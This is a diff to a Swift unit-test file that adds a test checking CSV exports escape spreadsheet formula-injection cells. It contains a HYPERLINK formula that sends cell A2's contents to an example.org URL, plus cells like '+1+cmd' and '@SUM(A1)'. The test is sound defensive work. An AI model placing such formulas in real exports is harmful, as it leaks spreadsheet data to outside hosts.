@@ -52,6 +52,26 @@ final class OpenDataTests: XCTestCase {
         XCTAssertEqual(CSVTable.number(142), "142")
     }
 
+    /// A local service named like a spreadsheet formula, read back by Python's csv module:
+    /// every formula-like cell is text behind a single quote; numbers stay numbers.
+    func testCSVNeutralisesFormulas() throws {
+        let path = "seeds/sant-feliu-de-llobregat/services/local-retail-support.md"
+        let text = try String(contentsOf: fixture.root.appendingPathComponent(path), encoding: .utf8)
+        try fixture.write(path, text.replacingOccurrences(
+            of: "name: {ca: Suport al comerç local, es: Apoyo al comercio local}",
+            with: #"name: {ca: '=HYPERLINK("https://example.org/?d="&A2,"Suport")', es: Apoyo}"#))
+        let csv = fixture.root.appendingPathComponent("services.csv")
+        try Data(fixture.file("services.csv").utf8).write(to: csv)
+        let rows = try readCSVWithPython(csv)
+        XCTAssertEqual(rows.last, ["sant-feliu-de-llobregat", "08211", "local-retail-support",
+                                   #"'=HYPERLINK("https://example.org/?d="&A2,"Suport")"#, "local", "", "true"])
+        let table = CSVTable(header: ["cell"], rows: [["+1+cmd"], ["-2+3"], ["@SUM(A1)"], ["\tx"], ["\rx"], ["-2.5"], ["-12"], ["a=b"]])
+        let tableFile = fixture.root.appendingPathComponent("table.csv")
+        try Data(table.text.utf8).write(to: tableFile)
+        XCTAssertEqual(try readCSVWithPython(tableFile).map { $0[0] },
+                       ["cell", "'+1+cmd", "'-2+3", "'@SUM(A1)", "'\tx", "'\rx", "-2.5", "-12", "a=b"])
+    }
+
     func testCPSVCatalogueOfTheFixture() {
         let text = fixture.file("catalogue-sant-feliu-de-llobregat.jsonld")
         if text != CatalogueGolden.santFeliu + "\n" {
